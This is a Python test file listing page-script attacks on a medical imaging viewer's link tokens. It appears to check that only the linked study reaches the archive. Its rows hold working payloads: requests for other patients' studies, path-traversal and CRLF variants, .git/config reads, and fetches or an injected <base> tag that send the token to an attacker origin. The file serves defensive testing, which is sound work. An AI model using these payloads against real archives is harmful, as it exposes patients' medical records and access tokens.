"""Attacks with requests from code in the page: only requests about the link's study may leave, and only to the archive."""

from __future__ import annotations

from attacks import weakenings as weak
from attacks.model import PageAttack, Weakening
from attacks.requirements import (
    archive_gets_no_token,
    archive_gets_only_the_study,
    attacker_gets_no_token,
    token_only_in_its_header,
)
from attacks.rows.page_attacks import (
    EMBED,
    FETCH,
    FRAME,
    IMAGE,
    OBJECT,
    REQUEST,
    SOURCE,
    URL_OBJECT,
    VIDEO,
    XHR,
    script,
)


def asks(
    name: str, why: str, tail: str, weakening: Weakening = weak.NO_LAST_EXIT, request_js: str = FETCH
) -> PageAttack:
    """Requests something below the root that is not only about the link's study."""
    return script(name, why, f"const url = `${{root}}{tail}`; {request_js}", archive_gets_only_the_study, weakening)


OTHERS = (
    asks("other-study", "a study that the link does not name", "/studies/${other}/series"),
    asks("other-study-request", "the same as a Request object", "/studies/${other}/series", request_js=REQUEST),
    asks("other-study-url-object", "the same as a URL object", "/studies/${other}/series", request_js=URL_OBJECT),
    asks("other-study-xhr", "the same by XMLHttpRequest", "/studies/${other}/series", request_js=XHR),
    asks("other-study-image", "the same as an image", "/studies/${other}/rendered", request_js=IMAGE),
    asks("other-study-video", "the same as a video", "/studies/${other}/rendered", request_js=VIDEO),
    asks("other-study-source", "the same as a source of a video", "/studies/${other}/rendered", request_js=SOURCE),
    asks("other-study-frame", "the same in a frame", "/studies/${other}/rendered", request_js=FRAME),
    asks("other-study-object", "the same as an object", "/studies/${other}/rendered", request_js=OBJECT),
    asks("other-study-embed", "the same embedded", "/studies/${other}/rendered", request_js=EMBED),
    asks("other-patient", "a study of another patient", "/studies/${stranger}/metadata", request_js=XHR),
    asks("other-study-searched", "a search limited to another study", "/studies?StudyInstanceUID=${other}"),
    asks("other-study-by-tag", "the same by the attribute's tag", "/studies?0020000D=${other}"),
    asks(
        "other-study-wado-uri",
        "another study by WADO-URI",
        "?requestType=WADO&studyUID=${other}&seriesUID=1.2&objectUID=1.2.3",
    ),
    asks(
        "own-and-other",
        "a list of studies that begins with the link's",
        "/studies?StudyInstanceUID=${own},${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "own-or-other",
        "the same list with the separator of DICOM",
        "/studies?StudyInstanceUID=${own}%5C${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "study-twice",
        "two studies, of which an archive may use the last",
        "/studies?StudyInstanceUID=${own}&StudyInstanceUID=${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "study-twice-turned",
        "two studies, of which an archive may use the first",
        "/studies?StudyInstanceUID=${other}&StudyInstanceUID=${own}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "own-path-other-query",
        "the link's study in the path, another in the query",
        "/studies/${own}/series?StudyInstanceUID=${other}",
        weak.PATH_NAMES_THE_STUDY,
    ),
    asks(
        "other-path-own-query",
        "another study in the path, the link's in the query",
        "/studies/${other}/series?StudyInstanceUID=${own}",
        weak.QUERY_NAMES_THE_STUDY,
    ),
    asks(
        "any-series",
        "a series of another study, together with the link's study",
        "/series/9.9/instances?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "any-instance",
        "an instance of another study, together with the link's study",
        "/instances/9.9/frames/1?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "any-service",
        "another service of the archive below the root",
        "/servers/pacs/stow?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
)

SEARCHES = (
    asks("all-studies", "a search over the archive", "/studies", weak.OPEN_SEARCHES),
    asks("all-studies-slash", "the same with a slash", "/studies/", weak.OPEN_SEARCHES),
    asks("all-series", "a search over all series", "/series", weak.OPEN_SEARCHES, XHR),
    asks("all-instances", "a search over all instances", "/instances?limit=100", weak.OPEN_SEARCHES),
    asks(
        "instances-of-a-series",
        "a search that names a series only",
        "/instances?SeriesInstanceUID=1.2.3",
        weak.OPEN_SEARCHES,
    ),
    asks("studies-of-a-day", "a search by date", "/studies?StudyDate=20240101-20241231", weak.OPEN_SEARCHES),
    asks("studies-by-accession", "a search by accession number", "/studies?AccessionNumber=*", weak.OPEN_SEARCHES),
    asks("patient-id", "the patient's other studies", "/studies?PatientID=${patient}", weak.PATIENTS_ARE_FREE),
    asks("patient-id-tag", "the same by the attribute's tag", "/studies?00100020=${patient}", weak.PATIENTS_ARE_FREE),
    asks(
        "patient-wildcard",
        "all patients whose ID contains this one",
        "/studies?PatientID=*${patient}*",
        weak.PATIENTS_ARE_FREE,
        XHR,
    ),
    asks("patient-name", "all patients with a name", "/studies?PatientName=M*", weak.PATIENTS_ARE_FREE),
    asks(
        "patient-birth-date", "all patients born on a day", "/studies?PatientBirthDate=19610417", weak.PATIENTS_ARE_FREE
    ),
    asks(
        "patient-birth-date-tag",
        "the same by the attribute's tag",
        "/studies?00100030=19610417",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "other-patient-ids",
        "patients by an ID of another hospital",
        "/studies?OtherPatientIDs=1",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "own-study-any-patient",
        "the link's study together with a patient",
        "/studies?StudyInstanceUID=${own}&PatientID=${patient}",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "own-study-any-name",
        "the link's study together with a name",
        "/studies?StudyInstanceUID=${own}&PatientName=*",
        weak.PATIENT_ID_ONLY,
    ),
)

SPELLINGS = (
    asks(
        "study-in-small-letters",
        "a name that some archives read and others ignore",
        "/studies?studyinstanceuid=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks("study-in-ohifs-plural", "the name that links use", "/studies?StudyInstanceUIDs=${own}", weak.OTHER_IS_FREE),
    asks("tag-with-comma", "a tag that some archives read", "/studies?0020,000D=${own}", weak.OTHER_IS_FREE),
    asks(
        "semicolon-parameter",
        "a separator that some servers accept",
        "/studies?StudyInstanceUID=${own};PatientID=*",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "encoded-name", "a name that is encoded", "/studies?StudyInstanceUID=${own}&Patient%49D=1", weak.OTHER_IS_FREE
    ),
    asks(
        "twice-encoded-value",
        "a value that some servers decode twice",
        "/studies?StudyInstanceUID=${own}%252C${other}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "null-in-value",
        "a value that ends early for some servers",
        "/studies?StudyInstanceUID=${own}%00.1",
        weak.OTHER_IS_FREE,
    ),
    asks("wildcard-study", "a UID with a wildcard", "/studies?StudyInstanceUID=2.25.*", weak.OTHER_IS_FREE),
    asks("empty-study", "a UID that is empty", "/studies?StudyInstanceUID=", weak.OTHER_IS_FREE),
    asks(
        "wado-uri-twice",
        "two studies in one WADO-URI",
        "?requestType=WADO&studyUID=${own}&studyUID=${other}&objectUID=1.2.3",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "wado-uri-small",
        "WADO-URI with names in another letter case",
        "?requestType=WADO&studyUID=${own}&StudyUID=${other}&objectUID=1.2.3",
        weak.OTHER_IS_FREE,
    ),
)


def ambiguous_path(name: str, why: str, path: str, request_js: str = FETCH) -> PageAttack:
    """A path that begins like one of the link's study, and that some servers read as another path."""
    return script(name, why, f"const url = {path}; {request_js}", archive_gets_no_token, weak.ANY_PATH)


PATHS = (
    ambiguous_path(
        "encoded-slash", "servers that decode before they resolve '..'", "`${root}/studies/${own}/..%2f${other}/series`"
    ),
    ambiguous_path(
        "encoded-backslash",
        "servers that treat a backslash as a slash",
        "`${root}/studies/${own}/..%5c${other}/series`",
        XHR,
    ),
    ambiguous_path("encoded-twice", "servers that decode twice", "`${root}/studies/${own}/%252e%252e/${other}/series`"),
    ambiguous_path(
        "dots-and-semicolon",
        "Java servers, which drop ;x before they resolve '..'",
        "`${root}/studies/${own}/..;/${other}/series`",
    ),
    ambiguous_path("path-parameter", "Java servers, which drop ;x", "`${root}/studies/${own};x/series`", XHR),
    ambiguous_path(
        "encoded-semicolon", "the same for servers that decode first", "`${root}/studies/${own}%3bx/series`"
    ),
    ambiguous_path(
        "overlong-utf-8", "decoders that accept overlong UTF-8", "`${root}/studies/${own}/%c0%ae%c0%ae/${other}/series`"
    ),
    ambiguous_path("overlong-slash", "the same for a slash", "`${root}/studies/${own}/..%c0%af${other}/series`"),
    ambiguous_path("null-in-path", "servers that end a path at a null", "`${root}/studies/${own}%00/series`"),
    ambiguous_path(
        "line-break-in-path", "servers that end a line there", "`${root}/studies/${own}%0d%0aX-Y:%20z/series`"
    ),
    ambiguous_path(
        "doubled-slash", "some servers merge slashes, and others do not", "`${root}//studies/${own}/series`"
    ),
    ambiguous_path("other-alphabet", "letters that some servers convert to ASCII", "`${root}/studies/${own}/ｓeries`"),
    ambiguous_path("hidden-segment", "files that begin with a dot", "`${root}/studies/${own}/.git/config`"),
    ambiguous_path("encoded-dot-file", "the same, encoded", "`${root}/studies/${own}/%2egit/config`", IMAGE),
)

PLACES = (
    script(
        "root-as-prefix",
        "a path that begins like the root but is not below it",
        "await fetch(`${root}-evil/studies/${own}/series`).catch(() => {})",
        token_only_in_its_header,
        weak.ROOT_BY_PREFIX,
    ),
    script(
        "root-at-another-origin",
        "the root's path on the attacker's server, without a policy",
        "await fetch(`${evil}${root}/studies/${own}/series`).catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-xhr",
        "the same by XMLHttpRequest",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/series`; {XHR}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-image",
        "the same as an image",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/rendered`; {IMAGE}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "base-tag",
        "a <base> makes every relative URL point to another server",
        "const b = document.createElement('base'); b.href = evil; document.head.append(b);"
        "await fetch(root.slice(0) + '/studies/' + own + '/series').catch(() => {});"
        "await fetch(root.slice(1) + '/studies/' + own + '/series').catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
)

ROWS = (*OTHERS, *SEARCHES, *SPELLINGS, *PATHS, *PLACES)
